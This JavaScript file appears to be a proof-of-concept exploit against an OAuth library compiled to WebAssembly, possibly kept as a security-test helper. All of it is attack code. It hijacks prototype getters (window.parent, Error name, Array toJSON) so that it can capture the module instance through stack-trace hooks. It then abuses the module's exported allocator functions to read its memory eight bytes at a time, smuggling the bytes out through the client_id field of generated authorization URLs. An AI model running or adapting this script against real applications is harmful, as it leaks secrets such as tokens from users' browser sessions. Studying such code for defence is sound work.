// Script that comes after the library and reads the module's memory, if it can get at the instance and the instance has
// exports: what was done with the package until November 2026. It frees 8 bytes of a text that it hands over, has the
// allocator give it the 8 bytes it wants to read in their place, and finds them in the authorization URL.

/** Has page code run while the module is on the stack, where that can be done; what stands there. */
const hooks = {
  parent: async ({ oauth, config, begin, grab }) => {
    const outer = { get parent() { return this }, location: { origin: 'https://x.example' } }
    Object.defineProperty(window, 'parent', { configurable: true, get() { grab(); return outer } })
    const state = await begin()
    const back = `${config.redirectUri}${config.redirectUri.includes('?') ? '&' : '?'}code=zz&state=${state}`
    await oauth.handleRedirect(back).catch(() => {})
    sessionStorage.removeItem('oauth-wasm.pending.' + state)
  },
  name: async ({ oauth, config, grab }) => {
    const kept = [TypeError, DOMException, Error].map(type => [type, Object.getOwnPropertyDescriptor(type.prototype, 'name')])
    for (const [type] of kept) {
      Object.defineProperty(type.prototype, 'name', { configurable: true, get() { grab(); return 'TypeError' } })
    }
    const dead = { clientId: 'x', redirectUri: config.redirectUri, issuer: 'http://127.0.0.1:1', resourceServers: ['https://a.example'] }
    await oauth.startLogin({ ...dead, navigate() {} }).catch(() => {})
    for (const [type, descriptor] of kept) Object.defineProperty(type.prototype, 'name', descriptor)
  },
  toJSON: async ({ oauth, config, grab }) => {
    Array.prototype.toJSON = function () { grab(); return this }
    await oauth.restore().catch(() => {})
    await oauth.handleRedirect(`${config.redirectUri}?code=zz&state=ow1x${'A'.repeat(43)}`).catch(() => {})
    await oauth.adoptToken('pat', { clientId: 'z', resourceServers: ['https://z.example'] }).catch(() => {})
    await new Promise(resolve => setTimeout(resolve, 300))
    delete Array.prototype.toJSON
  },
}

/** What can be read of the module's memory, as runs of plain characters, and how the script got there. */
window.readOut = async (oauth, config, hook, given) => {
  let instance = given
  const grab = () => {
    const old = Error.prepareStackTrace
    Error.prepareStackTrace = (_, sites) => {
      for (const site of sites) {
        let self
        try { self = site.getThis() } catch {}
        if (self instanceof WebAssembly.Instance) instance = self
      }
    }
    void new Error().stack
    Error.prepareStackTrace = old
  }
  const begin = async more => {
    let url
    await oauth.startLogin({ ...config, ...more, navigate: to => { url = to } })
    return new URL(url).searchParams.get('state')
  }
  if (hook) await hooks[hook]({ oauth, config, begin, grab })
  if (!instance) return { instance: false, exports: [], found: [] }
  const exported = Object.entries(instance.exports)
  const names = exported.map(([name]) => name)
  const of = arity => exported.filter(([, value]) => typeof value === 'function' && value.length === arity).map(([, value]) => value)
  const [ask] = of(7)
  const [malloc] = of(2)
  const [realloc] = of(4)
  const free = of(3).at(-1)
  if (!ask || !malloc || !realloc || !free) return { instance: true, exports: names, found: [] }

  const pad = (text, to) => text + ' '.repeat((to - (text.length % to)) % to)
  const head = 'P'.repeat(16) + pad('startLogin', 16)
  let json = `{"redirectUri":${JSON.stringify(config.redirectUri)},"authorizationEndpoint":"https://a.example/","tokenEndpoint":"https://a.example/t","resourceServers":["https://a.example"]`
  const last = ',"clientId":"'
  while ((json.length + last.length) % 8) json += ' '
  json += last
  const text = pad(head + json + 'A'.repeat(8) + '"}', 8)
  const [size, offset] = [text.length, head.length + json.length]
  const room = malloc(4 << 20, 1)
  free(room, 4 << 20, 1)
  const start = 17 * 65536
  const length = Math.min(room - start, 1 << 18)
  const cell = async address => {
    await oauth.handleRedirect(text).catch(() => {})
    const gap = malloc(16, 1)
    const copy = malloc(size, 1)
    free(copy + offset, 8, 1)
    if (realloc(address, 8, 8, 1) !== copy + offset) return
    let url
    try {
      await ask(copy + 16, 10, copy + 32, size - 32, 1, 0, to => { url = to })
    } catch {}
    free(copy, 16, 1)
    free(gap, 16, 1)
    if (!url) return
    const { searchParams } = new URL(url)
    sessionStorage.removeItem('oauth-wasm.pending.' + searchParams.get('state'))
    return searchParams.get('client_id')
  }
  const top = malloc(65536, 1)
  const all = realloc(start, length, length, 1)
  free(top, 65536, 1)
  const end = performance.now() + 10_000
  const found = []
  let run = ''
  for (let i = 8; i < length && performance.now() < end; i += 8) {
    const read = await cell(all + i)
    if (/^[\w.-]{8}$/.test(read ?? '')) {
      run += read
      continue
    }
    if (run.length >= 8) found.push(run)
    run = ''
  }
  return { instance: true, exports: names, found }
}
